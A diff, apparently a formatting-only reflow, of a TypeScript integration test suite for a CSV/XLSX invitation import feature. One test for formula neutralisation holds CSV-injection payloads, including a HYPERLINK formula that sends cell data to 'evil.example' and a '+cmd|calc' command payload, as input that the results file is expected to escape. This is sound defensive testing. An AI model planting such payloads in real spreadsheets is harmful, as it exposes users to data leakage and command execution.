@@ -8,13 +8,20 @@ import { addMember, createOrgWithOwner, uniqueEmail } from '../helpers/factories
 const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
 
 function upload(client: TestClient, orgId: string, body: string | Buffer, type = 'text/csv', query = '') {
-  return client.request('POST', `/api/v1/orgs/${orgId}/imports${query}`, Buffer.isBuffer(body) ? body : Buffer.from(body, 'utf8'), { 'content-type': type });
+  return client.request(
+    'POST',
+    `/api/v1/orgs/${orgId}/imports${query}`,
+    Buffer.isBuffer(body) ? body : Buffer.from(body, 'utf8'),
+    { 'content-type': type },
+  );
 }
 
 function multipart(fileName: string, type: string, content: Buffer) {
   const boundary = `----beckon${randomBytes(8).toString('hex')}`;
   const body = Buffer.concat([
-    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\nContent-Type: ${type}\r\n\r\n`),
+    Buffer.from(
+      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\nContent-Type: ${type}\r\n\r\n`,
+    ),
     content,
     Buffer.from(`\r\n--${boundary}--\r\n`),
   ]);
@@ -79,9 +86,21 @@ describe('spreadsheet imports', () => {
   }
 
   const counts = async (importId: string) => {
-    const inv = await t.services.db.selectFrom('invitations').select((eb) => eb.fn.countAll<number>().as('n')).where('import_id', '=', importId).executeTakeFirstOrThrow();
-    const emails = await sql<{ n: number }>`SELECT count(*)::int AS n FROM emails e JOIN invitations i ON i.id = e.invitation_id WHERE i.import_id = ${importId}`.execute(t.services.db);
-    const distinct = await sql<{ n: number }>`SELECT count(DISTINCT lower(email::text))::int AS n FROM invitations WHERE import_id = ${importId}`.execute(t.services.db);
+    const inv = await t.services.db
+      .selectFrom('invitations')
+      .select((eb) => eb.fn.countAll<number>().as('n'))
+      .where('import_id', '=', importId)
+      .executeTakeFirstOrThrow();
+    const emails = await sql<{
+      n: number;
+    }>`SELECT count(*)::int AS n FROM emails e JOIN invitations i ON i.id = e.invitation_id WHERE i.import_id = ${importId}`.execute(
+      t.services.db,
+    );
+    const distinct = await sql<{
+      n: number;
+    }>`SELECT count(DISTINCT lower(email::text))::int AS n FROM invitations WHERE import_id = ${importId}`.execute(
+      t.services.db,
+    );
     return { invitations: Number(inv.n), emails: emails.rows[0]!.n, distinct: distinct.rows[0]!.n };
   };
 
@@ -100,7 +119,11 @@ describe('spreadsheet imports', () => {
     const xlsx = await o.client.request('GET', `${o.base}/template.xlsx`);
     expect(xlsx.status).toBe(200);
     expect(xlsx.headers['content-type']).toBe(XLSX);
-    const res = await t.app.inject({ method: 'GET', url: `${o.base}/template.xlsx`, headers: { cookie: o.client.cookie! } });
+    const res = await t.app.inject({
+      method: 'GET',
+      url: `${o.base}/template.xlsx`,
+      headers: { cookie: o.client.cookie! },
+    });
     const wb = new ExcelJS.Workbook();
     await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
     const ws = wb.worksheets[0]!;
@@ -128,11 +151,25 @@ describe('spreadsheet imports', () => {
       `${c};;manager;"x;y"\r\n`;
     const res = await upload(o.client, o.org.id, csv, 'text/csv', '?fileName=people.csv');
     expect(res.status, JSON.stringify(res.body)).toBe(201);
-    expect(res.body).toMatchObject({ status: 'preview', total: 3, valid: 3, problems: [], unknownColumns: ['Notes'], fileName: 'people.csv', delimiter: ';', encoding: 'utf-8' });
+    expect(res.body).toMatchObject({
+      status: 'preview',
+      total: 3,
+      valid: 3,
+      problems: [],
+      unknownColumns: ['Notes'],
+      fileName: 'people.csv',
+      delimiter: ';',
+      encoding: 'utf-8',
+    });
     expect(typeof res.body.id).toBe('string');
     // Nothing is created until confirm.
     expect((await counts(res.body.id)).invitations).toBe(0);
-    const rows = await t.services.db.selectFrom('import_rows').selectAll().where('import_id', '=', res.body.id).orderBy('row_number').execute();
+    const rows = await t.services.db
+      .selectFrom('import_rows')
+      .selectAll()
+      .where('import_id', '=', res.body.id)
+      .orderBy('row_number')
+      .execute();
     expect(rows.map((r) => [r.row_number, r.email, r.role, r.group_ids.length])).toEqual([
       [2, a, 'learner', 2],
       [3, b, 'learner', 1],
@@ -140,7 +177,11 @@ describe('spreadsheet imports', () => {
     ]);
 
     // Comma-delimited, LF only, no BOM.
-    const res2 = await upload(o.client, o.org.id, `email,groups\n${uniqueEmail('d')},Sales\n${uniqueEmail('e')},"Sales;Support Team"\n`);
+    const res2 = await upload(
+      o.client,
+      o.org.id,
+      `email,groups\n${uniqueEmail('d')},Sales\n${uniqueEmail('e')},"Sales;Support Team"\n`,
+    );
     expect(res2.status).toBe(201);
     expect(res2.body).toMatchObject({ total: 2, valid: 2, delimiter: ',' });
   });
@@ -221,8 +262,14 @@ describe('spreadsheet imports', () => {
 
     // An hr member may not grant admin; group_required when the organization demands groups.
     const hr = await addMember(t, o.org.id, 'hr');
-    expect((await o.client.patch(`/api/v1/orgs/${o.org.id}/settings`, { requireGroup: true })).status).toBe(200);
-    const res2 = await upload(hr.client, o.org.id, `email,groups,role\n${uniqueEmail('p')},Sales,admin\n${uniqueEmail('q')},,learner\n${uniqueEmail('s')},Sales,hr\n`);
+    expect((await o.client.patch(`/api/v1/orgs/${o.org.id}/settings`, { requireGroup: true })).status).toBe(
+      200,
+    );
+    const res2 = await upload(
+      hr.client,
+      o.org.id,
+      `email,groups,role\n${uniqueEmail('p')},Sales,admin\n${uniqueEmail('q')},,learner\n${uniqueEmail('s')},Sales,hr\n`,
+    );
     expect(res2.status).toBe(201);
     expect(res2.body.problems.map((p: any) => [p.row, p.code])).toEqual([
       [2, 'role_not_allowed'],
@@ -236,7 +283,14 @@ describe('spreadsheet imports', () => {
     expect(conf.body).toMatchObject({ id: res.body.id, status: 'running' });
     await t.services.imports.runImport(res.body.id);
     const done = await o.client.get(`${o.base}/${res.body.id}`);
-    expect(done.body).toMatchObject({ status: 'done', total: 9, processed: 9, created: 2, skipped: 3, failed: 4 });
+    expect(done.body).toMatchObject({
+      status: 'done',
+      total: 9,
+      processed: 9,
+      created: 2,
+      skipped: 3,
+      failed: 4,
+    });
     expect((await counts(res.body.id)).invitations).toBe(2);
     const csvOut = parseCsv((await o.client.get(`${o.base}/${res.body.id}/results.csv`)).body);
     expect(csvOut[0]).toEqual(['row', 'email', 'outcome', 'code', 'reason', 'invitation_id']);
@@ -258,13 +312,20 @@ describe('spreadsheet imports', () => {
     expect(res.body).toMatchObject({ valid: 1, typos: 1 });
     await o.client.post(`${o.base}/${res.body.id}/confirm`, { allowTypos: true });
     await t.services.imports.runImport(res.body.id);
-    expect((await o.client.get(`${o.base}/${res.body.id}`)).body).toMatchObject({ status: 'done', created: 2, failed: 0 });
+    expect((await o.client.get(`${o.base}/${res.body.id}`)).body).toMatchObject({
+      status: 'done',
+      created: 2,
+      failed: 0,
+    });
   });
 
   it('confirm creates every invitation with its email and job; progress, results.csv and history', async () => {
     const o = await org();
     const g = await o.group('Cohort A');
-    const emails = Array.from({ length: 30 }, (_, i) => `learner${i}.${randomBytes(3).toString('hex')}@example.org`);
+    const emails = Array.from(
+      { length: 30 },
+      (_, i) => `learner${i}.${randomBytes(3).toString('hex')}@example.org`,
+    );
     const csv = `email,groups\n${emails.map((e) => `${e},Cohort A`).join('\n')}\n`;
     const res = await upload(o.client, o.org.id, csv, 'text/csv', '?fileName=cohort.csv');
     expect(res.body).toMatchObject({ total: 30, valid: 30 });
@@ -272,28 +333,63 @@ describe('spreadsheet imports', () => {
     expect(conf.status).toBe(202);
     const running = await o.client.get(`${o.base}/${res.body.id}`);
     expect(running.body).toMatchObject({ status: 'running', total: 30, processed: 0 });
-    const job = await sql<{ n: number }>`SELECT count(*)::int AS n FROM pgboss.job WHERE name = 'import.run' AND data->>'importId' = ${res.body.id}`.execute(t.services.db);
+    const job = await sql<{
+      n: number;
+    }>`SELECT count(*)::int AS n FROM pgboss.job WHERE name = 'import.run' AND data->>'importId' = ${res.body.id}`.execute(
+      t.services.db,
+    );
     expect(job.rows[0]!.n).toBe(1);
 
     // One chunk at a time: the counters move per chunk.
     const first = await t.services.imports.runImportChunk(res.body.id, 12);
     expect(first).toEqual({ done: false, processed: 12 });
-    expect((await o.client.get(`${o.base}/${res.body.id}`)).body).toMatchObject({ status: 'running', processed: 12, created: 12 });
+    expect((await o.client.get(`${o.base}/${res.body.id}`)).body).toMatchObject({
+      status: 'running',
+      processed: 12,
+      created: 12,
+    });
     await t.services.imports.runImport(res.body.id, { chunkSize: 12 });
     const done = (await o.client.get(`${o.base}/${res.body.id}`)).body;
-    expect(done).toMatchObject({ status: 'done', total: 30, processed: 30, created: 30, skipped: 0, failed: 0, fileName: 'cohort.csv' });
+    expect(done).toMatchObject({
+      status: 'done',
+      total: 30,
+      processed: 30,
+      created: 30,
+      skipped: 0,
+      failed: 0,
+      fileName: 'cohort.csv',
+    });
     expect(done.finishedAt).toBeTruthy();
     expect(done.createdBy.name).toBe('Olivia Owner');
 
     expect(await counts(res.body.id)).toEqual({ invitations: 30, emails: 30, distinct: 30 });
-    const invs = await t.services.db.selectFrom('invitations').selectAll().where('import_id', '=', res.body.id).execute();
+    const invs = await t.services.db
+      .selectFrom('invitations')
+      .selectAll()
+      .where('import_id', '=', res.body.id)
+      .execute();
     for (const i of invs) {
-      expect(i).toMatchObject({ status: 'pending', delivery_status: 'queued', sent_count: 1, role: 'learner', last_event_type: 'sent' });
+      expect(i).toMatchObject({
+        status: 'pending',
+        delivery_status: 'queued',
+        sent_count: 1,
+        role: 'learner',
+        last_event_type: 'sent',
+      });
       expect(i.group_ids).toEqual([g]);
     }
-    const sendJobs = await sql<{ n: number }>`SELECT count(*)::int AS n FROM pgboss.job j JOIN emails e ON e.id::text = j.data->>'emailId' JOIN invitations i ON i.id = e.invitation_id WHERE j.name = 'email.send' AND i.import_id = ${res.body.id}`.execute(t.services.db);
+    const sendJobs = await sql<{
+      n: number;
+    }>`SELECT count(*)::int AS n FROM pgboss.job j JOIN emails e ON e.id::text = j.data->>'emailId' JOIN invitations i ON i.id = e.invitation_id WHERE j.name = 'email.send' AND i.import_id = ${res.body.id}`.execute(
+      t.services.db,
+    );
     expect(sendJobs.rows[0]!.n).toBe(30);
-    const events = await sql<{ type: string; n: number }>`SELECT e.type, count(*)::int AS n FROM invitation_events e JOIN invitations i ON i.id = e.invitation_id WHERE i.import_id = ${res.body.id} GROUP BY e.type ORDER BY e.type`.execute(t.services.db);
+    const events = await sql<{
+      type: string;
+      n: number;
+    }>`SELECT e.type, count(*)::int AS n FROM invitation_events e JOIN invitations i ON i.id = e.invitation_id WHERE i.import_id = ${res.body.id} GROUP BY e.type ORDER BY e.type`.execute(
+      t.services.db,
+    );
     expect(events.rows).toEqual([
       { type: 'created', n: 30 },
       { type: 'sent', n: 30 },
@@ -310,13 +406,20 @@ describe('spreadsheet imports', () => {
 
     const history = await o.client.get(o.base);
     expect(history.status).toBe(200);
-    expect(history.body.items[0]).toMatchObject({ id: res.body.id, status: 'done', created: 30, createdBy: { name: 'Olivia Owner' }, fileName: 'cohort.csv' });
+    expect(history.body.items[0]).toMatchObject({
+      id: res.body.id,
+      status: 'done',
+      created: 30,
+      createdBy: { name: 'Olivia Owner' },
+      fileName: 'cohort.csv',
+    });
     expect(history.body.items[0].createdAt).toBeTruthy();
   });
 
   it('neutralises spreadsheet formulas in results.csv and quotes cells properly', async () => {
     const o = await org();
-    const csv = 'email,groups,role\n=HYPERLINK("http://evil.example/?x="&A1;"click"),,\n+cmd|calc,,\n-2+3,,\n@SUM(A1:A2),,\n"\tleading tab",,\n';
+    const csv =
+      'email,groups,role\n=HYPERLINK("http://evil.example/?x="&A1;"click"),,\n+cmd|calc,,\n-2+3,,\n@SUM(A1:A2),,\n"\tleading tab",,\n';
     const res = await upload(o.client, o.org.id, csv);
     expect(res.status, JSON.stringify(res.body)).toBe(201);
     expect(res.body.problems.every((p: any) => p.code === 'invalid_email')).toBe(true);
@@ -325,17 +428,33 @@ describe('spreadsheet imports', () => {
     const raw = (await o.client.get(`${o.base}/${res.body.id}/results.csv`)).body as string;
     const lines = parseCsv(raw);
     const emails = lines.slice(1).map((l) => l[1]!);
-    expect(emails).toEqual([`'=HYPERLINK("http://evil.example/?x="&A1;"click")`, `'+cmd|calc`, `'-2+3`, `'@SUM(A1:A2)`, `'\tleading tab`]);
+    expect(emails).toEqual([
+      `'=HYPERLINK("http://evil.example/?x="&A1;"click")`,
+      `'+cmd|calc`,
+      `'-2+3`,
+      `'@SUM(A1:A2)`,
+      `'\tleading tab`,
+    ]);
     for (const line of raw.split('\r\n').slice(1)) expect(line).not.toMatch(/^[^,]*,[=+\-@\t]/);
     expect(raw).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1;""click"")"`);
   });
 
   it('enforces the organization row limit with too_many_rows, creating nothing', async () => {
     const o = await org();
-    expect((await o.client.patch(`/api/v1/orgs/${o.org.id}/settings`, { importRowLimit: 3 })).status).toBe(200);
-    const ok = await upload(o.client, o.org.id, `email\n${uniqueEmail()}\n${uniqueEmail()}\n${uniqueEmail()}\n`);
+    expect((await o.client.patch(`/api/v1/orgs/${o.org.id}/settings`, { importRowLimit: 3 })).status).toBe(
+      200,
+    );
+    const ok = await upload(
+      o.client,
+      o.org.id,
+      `email\n${uniqueEmail()}\n${uniqueEmail()}\n${uniqueEmail()}\n`,
+    );
     expect(ok.status).toBe(201);
-    const res = await upload(o.client, o.org.id, `email\n${uniqueEmail()}\n${uniqueEmail()}\n${uniqueEmail()}\n${uniqueEmail()}\n`);
+    const res = await upload(
+      o.client,
+      o.org.id,
+      `email\n${uniqueEmail()}\n${uniqueEmail()}\n${uniqueEmail()}\n${uniqueEmail()}\n`,
+    );
     expect(res.status).toBe(400);
     expect(res.body.error.code).toBe('too_many_rows');
     expect(res.body.error.message).toContain('3');
@@ -346,7 +465,10 @@ describe('spreadsheet imports', () => {
 
   it('refuses bad files with clear errors and changes nothing', async () => {
     const o = await org();
-    const before = await t.services.db.selectFrom('imports').select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow();
+    const before = await t.services.db
+      .selectFrom('imports')
+      .select((eb) => eb.fn.countAll<number>().as('n'))
+      .executeTakeFirstOrThrow();
     const expectError = async (body: string | Buffer, status: number, code: string, type = 'text/csv') => {
       const res = await upload(o.client, o.org.id, body, type);
       expect(res.status, JSON.stringify(res.body)).toBe(status);
@@ -360,24 +482,45 @@ describe('spreadsheet imports', () => {
     await expectError('email,groups,role\r\n', 400, 'empty_file');
     await expectError('name,phone\nAda,123\n', 400, 'missing_header');
     // A binary file renamed .csv (NUL bytes), a PNG, an old .xls, a broken zip sent as XLSX.
-    await expectError(Buffer.concat([Buffer.from('email\n'), randomBytes(2000), Buffer.alloc(10)]), 400, 'not_a_spreadsheet');
+    await expectError(
+      Buffer.concat([Buffer.from('email\n'), randomBytes(2000), Buffer.alloc(10)]),
+      400,
+      'not_a_spreadsheet',
+    );
     await expectError(Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), 400, 'not_a_spreadsheet');
     await expectError(Buffer.from('d0cf11e0a1b11ae1000000000000', 'hex'), 400, 'not_a_spreadsheet');
-    await expectError(Buffer.concat([Buffer.from('PK\x03\x04'), randomBytes(500)]), 400, 'not_a_spreadsheet', XLSX);
+    await expectError(
+      Buffer.concat([Buffer.from('PK\x03\x04'), randomBytes(500)]),
+      400,
+      'not_a_spreadsheet',
+      XLSX,
+    );
     await expectError(Buffer.from('not a workbook at all, just text'), 400, 'not_a_spreadsheet', XLSX);
     // A row of 10,000 characters.
-    const long = await expectError(`email,notes\n${uniqueEmail()},ok\n${uniqueEmail()},${'x'.repeat(10_000)}\n`, 400, 'row_too_long');
+    const long = await expectError(
+      `email,notes\n${uniqueEmail()},ok\n${uniqueEmail()},${'x'.repeat(10_000)}\n`,
+      400,
+      'row_too_long',
+    );
     expect(long.row).toBe(3);
     expect(long.message).toContain('Row 3');
     // An unclosed quote swallows the rest of the file into one row: reported, not buffered.
     await expectError(`email\n"${uniqueEmail()}\n${'a@b.co\n'.repeat(2000)}`, 400, 'row_too_long');
     await expectError(`email\n"${uniqueEmail()}\n`, 400, 'invalid_csv');
     // Mixed encodings: UTF-8 first, then a Windows-1252 byte on row 4.
-    const mixed = Buffer.concat([Buffer.from(`email,groups\n${uniqueEmail()},Équipe\n${uniqueEmail()},x\n${uniqueEmail()},caf`), Buffer.from([0xe9]), Buffer.from('\n')]);
+    const mixed = Buffer.concat([
+      Buffer.from(`email,groups\n${uniqueEmail()},Équipe\n${uniqueEmail()},x\n${uniqueEmail()},caf`),
+      Buffer.from([0xe9]),
+      Buffer.from('\n'),
+    ]);
     const enc = await expectError(mixed, 400, 'invalid_encoding');
     expect(enc.row).toBe(4);
     // The reverse: Windows-1252 first, UTF-8 later.
-    const mixed2 = Buffer.concat([Buffer.from(`email,groups\n${uniqueEmail()},caf`), Buffer.from([0xe9]), Buffer.from(`\n${uniqueEmail()},x\n${uniqueEmail()},Équipe\n`)]);
+    const mixed2 = Buffer.concat([
+      Buffer.from(`email,groups\n${uniqueEmail()},caf`),
+      Buffer.from([0xe9]),
+      Buffer.from(`\n${uniqueEmail()},x\n${uniqueEmail()},Équipe\n`),
+    ]);
     expect((await expectError(mixed2, 400, 'invalid_encoding')).row).toBe(4);
     // UTF-16 (Excel's "Unicode text").
     await expectError(Buffer.from('\uFEFFemail\r\na@b.co\r\n', 'utf16le'), 400, 'unsupported_encoding');
@@ -385,14 +528,21 @@ describe('spreadsheet imports', () => {
     const json = await o.client.post(o.base, { email: 'a@b.co' });
     expect(json.status).toBe(415);
 
-    const after = await t.services.db.selectFrom('imports').select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow();
+    const after = await t.services.db
+      .selectFrom('imports')
+      .select((eb) => eb.fn.countAll<number>().as('n'))
+      .executeTakeFirstOrThrow();
     expect(Number(after.n)).toBe(Number(before.n));
   });
 
   it('reads a whole Windows-1252 file (Excel on Windows) and says so', async () => {
     const o = await org();
     await o.group('Équipe');
-    const body = Buffer.concat([Buffer.from(`email;groups\r\n${uniqueEmail()};`), Buffer.from([0xc9]), Buffer.from('quipe\r\n')]);
+    const body = Buffer.concat([
+      Buffer.from(`email;groups\r\n${uniqueEmail()};`),
+      Buffer.from([0xc9]),
+      Buffer.from('quipe\r\n'),
+    ]);
     const res = await upload(o.client, o.org.id, body, 'application/vnd.ms-excel');
     expect(res.status, JSON.stringify(res.body)).toBe(201);
     expect(res.body).toMatchObject({ encoding: 'windows-1252', valid: 1, problems: [] });
@@ -435,24 +585,40 @@ describe('spreadsheet imports', () => {
     expect(conf.status).toBe(202);
     expect(conf.body.sendAt).toBe(sendAt);
     await t.services.imports.runImport(s.body.id);
-    const invs = await t.services.db.selectFrom('invitations').selectAll().where('import_id', '=', s.body.id).execute();
+    const invs = await t.services.db
+      .selectFrom('invitations')
+      .selectAll()
+      .where('import_id', '=', s.body.id)
+      .execute();
     expect(invs).toHaveLength(10);
     for (const i of invs) expect(i).toMatchObject({ status: 'scheduled', expires_at: null, sent_count: 0 });
     expect(invs[0]!.send_at!.toISOString()).toBe(sendAt);
-    const jobs = await sql<{ n: number }>`SELECT count(*)::int AS n FROM pgboss.job WHERE name = 'invitation.send-scheduled' AND data->>'invitationId' = ANY(${invs.map((i) => i.id)}::text[])`.execute(t.services.db);
+    const jobs = await sql<{
+      n: number;
+    }>`SELECT count(*)::int AS n FROM pgboss.job WHERE name = 'invitation.send-scheduled' AND data->>'invitationId' = ANY(${invs.map((i) => i.id)}::text[])`.execute(
+      t.services.db,
+    );
     expect(jobs.rows[0]!.n).toBe(10);
     expect((await counts(s.body.id)).emails).toBe(0);
     // When the time comes, one goes out; expiry counts from the actual send.
     t.clock.advance(3 * 86_400_000 + 1000);
     await t.services.invitations.sendScheduled(invs[0]!.id);
-    const sent = await t.services.db.selectFrom('invitations').selectAll().where('id', '=', invs[0]!.id).executeTakeFirstOrThrow();
+    const sent = await t.services.db
+      .selectFrom('invitations')
+      .selectAll()
+      .where('id', '=', invs[0]!.id)
+      .executeTakeFirstOrThrow();
     expect(sent.status).toBe('pending');
     expect(sent.expires_at!.getTime()).toBe(t.clock.now().getTime() + 7 * 86_400_000);
     t.clock.advance(-(3 * 86_400_000 + 1000));
     const c3 = await o.client.post(`${o.base}/${s.body.id}/cancel`);
     expect(c3.status, JSON.stringify(c3.body)).toBe(200);
     expect(c3.body).toMatchObject({ status: 'cancelled', cancelledInvitations: 9 });
-    const after = await t.services.db.selectFrom('invitations').select('status').where('import_id', '=', s.body.id).execute();
+    const after = await t.services.db
+      .selectFrom('invitations')
+      .select('status')
+      .where('import_id', '=', s.body.id)
+      .execute();
     expect(after.filter((i) => i.status === 'cancelled')).toHaveLength(9);
   });
 
@@ -470,7 +636,10 @@ describe('spreadsheet imports', () => {
         },
       }),
     ).rejects.toThrow('killed');
-    expect((await o.client.get(`${o.base}/${res.body.id}`)).body).toMatchObject({ status: 'running', processed: 10 });
+    expect((await o.client.get(`${o.base}/${res.body.id}`)).body).toMatchObject({
+      status: 'running',
+      processed: 10,
+    });
     expect(await counts(res.body.id)).toEqual({ invitations: 10, emails: 10, distinct: 10 });
     // A chunk that fails inside its transaction leaves nothing behind.
     await expect(
@@ -483,7 +652,13 @@ describe('spreadsheet imports', () => {
     await t.services.imports.runImport(res.body.id, { chunkSize: 10 });
     // And a late duplicate delivery of the same job does nothing.
     await t.services.imports.runImport(res.body.id, { chunkSize: 10 });
-    expect((await o.client.get(`${o.base}/${res.body.id}`)).body).toMatchObject({ status: 'done', processed: 25, created: 25, skipped: 0, failed: 0 });
+    expect((await o.client.get(`${o.base}/${res.body.id}`)).body).toMatchObject({
+      status: 'done',
+      processed: 25,
+      created: 25,
+      skipped: 0,
+      failed: 0,
+    });
     expect(await counts(res.body.id)).toEqual({ invitations: 25, emails: 25, distinct: 25 });
   });
 
@@ -495,7 +670,11 @@ describe('spreadsheet imports', () => {
     await o.client.post(`/api/v1/orgs/${o.org.id}/invitations`, { emails: [a] });
     await o.client.post(`${o.base}/${res.body.id}/confirm`);
     await t.services.imports.runImport(res.body.id);
-    expect((await o.client.get(`${o.base}/${res.body.id}`)).body).toMatchObject({ status: 'done', created: 1, skipped: 1 });
+    expect((await o.client.get(`${o.base}/${res.body.id}`)).body).toMatchObject({
+      status: 'done',
+      created: 1,
+      skipped: 1,
+    });
     const lines = parseCsv((await o.client.get(`${o.base}/${res.body.id}/results.csv`)).body);
     expect(lines[1]!.slice(2, 4)).toEqual(['skipped', 'already_invited']);
   });
@@ -506,7 +685,9 @@ describe('spreadsheet imports', () => {
       const o = await createOrgWithOwner(small);
       const big = `email\n${Array.from({ length: 8000 }, (_, i) => `person${i}@example.com`).join('\n')}\n`;
       expect(big.length).toBeGreaterThan(100_000);
-      const res = await o.client.request('POST', `/api/v1/orgs/${o.org.id}/imports`, Buffer.from(big), { 'content-type': 'text/csv' });
+      const res = await o.client.request('POST', `/api/v1/orgs/${o.org.id}/imports`, Buffer.from(big), {
+        'content-type': 'text/csv',
+      });
       expect(res.status).toBe(413);
       expect(res.body.error.code).toBe('payload_too_large');
       // Without a Content-Length (chunked), the stream is cut at the limit.
@@ -514,12 +695,18 @@ describe('spreadsheet imports', () => {
       const streamed = await small.app.inject({
         method: 'POST',
         url: `/api/v1/orgs/${o.org.id}/imports`,
-        headers: { cookie: o.client.cookie!, 'x-csrf-token': o.client.csrfToken!, 'content-type': 'text/csv' },
+        headers: {
+          cookie: o.client.cookie!,
+          'x-csrf-token': o.client.csrfToken!,
+          'content-type': 'text/csv',
+        },
         payload: Readable.from([Buffer.from(big.slice(0, 60_000)), Buffer.from(big.slice(60_000))]),
       });
       expect(streamed.statusCode).toBe(413);
       const m = multipart('big.csv', 'text/csv', Buffer.from(big));
-      const res3 = await o.client.request('POST', `/api/v1/orgs/${o.org.id}/imports`, m.body, { 'content-type': m.type });
+      const res3 = await o.client.request('POST', `/api/v1/orgs/${o.org.id}/imports`, m.body, {
+        'content-type': m.type,
+      });
       expect(res3.status).toBe(413);
       const none = await small.services.db.selectFrom('imports').selectAll().execute();
       expect(none).toHaveLength(0);
@@ -539,7 +726,11 @@ describe('imports with the job worker running', () => {
   it('confirm → the import.run job creates the invitations and the status reaches done', async () => {
     const o = await createOrgWithOwner(t);
     const base = `/api/v1/orgs/${o.org.id}/imports`;
-    const res = await upload(o.client, o.org.id, `email\n${Array.from({ length: 15 }, () => uniqueEmail('w')).join('\n')}\n`);
+    const res = await upload(
+      o.client,
+      o.org.id,
+      `email\n${Array.from({ length: 15 }, () => uniqueEmail('w')).join('\n')}\n`,
+    );
     expect((await o.client.post(`${base}/${res.body.id}/confirm`, {})).status).toBe(202);
     let body: any;
     for (let i = 0; i < 100; i++) {
